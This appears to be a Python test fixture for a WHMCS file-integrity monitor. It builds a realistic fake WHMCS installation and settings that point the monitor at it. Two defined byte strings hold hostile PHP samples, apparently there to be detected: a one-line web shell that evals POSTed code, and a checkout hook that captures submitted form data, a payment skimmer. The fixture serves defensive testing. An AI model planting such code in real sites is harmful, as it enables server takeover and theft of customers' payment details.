"""A realistic fake WHMCS installation on disk, and settings that point the files part at it."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

from support import make_settings
from whmcs_monitor.config import Settings
from whmcs_monitor.store.db import Database

CONFIGURATION_PHP = """<?php
$license = 'WHMCS-TEST-LICENSE';
$db_host = 'localhost';
$db_username = 'whmcs';
$db_password = 'seeded-db-password-7d1f';
$db_name = 'whmcs';
$cc_encryption_hash = 'seeded-cc-hash-0a9b8c7d6e5f';
$templates_compiledir = 'templates_c';
"""

WEB_SHELL = b"<?php if(isset($_POST['c'])){ eval($_POST['c']); } ?>\n"
SKIMMER_HOOK = b"<?php add_hook('ShoppingCartCheckoutCompletePage', 1, function($v){ file_put_contents('/tmp/x', json_encode($_POST)); });\n"


def smarty_compiled(name: str, body: str = "") -> str:
    """A compiled template the way Smarty 3.1 writes one."""
    return (
        "<?php\n/* Smarty version 3.1.48, created on 2026-11-27 10:00:00\n"
        f"  from '/var/www/whmcs/templates/six/{name}.tpl' */\n\n"
        "/* @var Smarty_Internal_Template $_smarty_tpl */\n"
        "if ($_smarty_tpl->_decodeProperties($_smarty_tpl, array ('version' => '3.1.48'), false)) {\n"
        f"function content_{name}(Smarty_Internal_Template $_smarty_tpl) {{?>\n"
        f"<html>{body}<?php echo $_smarty_tpl->tpl_vars['pagetitle']->value;?>\n"
        "<?php }\n}\n"
    )


def write(path: Path, content: str | bytes, mode: int = 0o644) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(content, str):
        content = content.encode()
    path.write_bytes(content)
    os.chmod(path, mode)
    return path


def build_whmcs_tree(root: Path, *, extra_files: int = 0) -> Path:
    """configuration.php, includes/hooks, modules, templates, admin, vendor and the writable
    directories, with the .htaccess files WHMCS ships; ``extra_files`` pads vendor/."""
    write(root / "configuration.php", CONFIGURATION_PHP, 0o400)
    write(root / "index.php", "<?php require 'init.php';\n")
    write(root / "init.php", "<?php // bootstrap\n")
    write(root / "clientarea.php", "<?php // client area\n")
    write(root / "includes/hooks/index.php", "<?php // silence\n")
    write(root / "includes/hooks/example.php", "<?php add_hook('ClientAdd', 1, function($v){});\n")
    write(root / "includes/functions.php", "<?php function x() {}\n")
    write(root / "modules/gateways/paypal.php", "<?php function paypal_config() {}\n")
    write(root / "modules/servers/cpanel/cpanel.php", "<?php function cpanel_CreateAccount() {}\n")
    write(root / "templates/six/header.tpl", "<html>{$pagetitle}\n")
    write(root / "templates/six/footer.tpl", "</html>\n")
    write(root / "admin/index.php", "<?php // admin\n")
    write(root / "admin/login.php", "<?php // admin login\n")
    write(root / "vendor/autoload.php", "<?php // composer\n")
    for directory in ("attachments", "downloads", "templates_c"):
        write(root / directory / ".htaccess", "Deny from all\n")
        write(root / directory / "index.php", "<?php header('Location: ../index.php');\n")
    write(root / "attachments/123456_invoice.pdf", b"%PDF-1.4 client upload\n")
    write(root / "templates_c/0a1b2c3d4e5f_0.file.header.tpl.php", smarty_compiled("header"))
    for index in range(extra_files):
        directory = root / f"vendor/pkg{index // 500}/src"
        if index % 500 == 0:
            directory.mkdir(parents=True, exist_ok=True)
        (directory / f"File{index}.php").write_bytes(b"<?php // %d\n" % index)
    return root


def files_settings(database_url: str, root: Path, **files: Any) -> Settings:
    return make_settings(database_url, files={"whmcs_root": str(root), **files})


def open_db(settings: Settings) -> Database:
    database = Database(settings.database_url)
    database.migrate()
    return database
